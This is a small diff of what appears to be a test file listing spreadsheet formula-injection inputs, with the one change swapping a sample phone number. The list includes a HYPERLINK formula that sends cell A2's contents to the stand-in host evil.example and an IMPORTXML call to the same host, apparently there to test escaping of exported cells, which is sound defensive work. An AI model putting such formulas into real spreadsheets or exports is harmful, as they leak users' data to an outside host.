@@ -6,7 +6,7 @@ import { Session } from '../support/session';
 const TEXTS = [
   '=HYPERLINK("https://evil.example/?"&A2,"Camille")',
   '=IMPORTXML("https://evil.example","//a")',
-  '+33 6 12 34 56 78',
+  '+33 6 39 98 12 34',
   '-2+3',
   '@here',
   '\t=1+1',
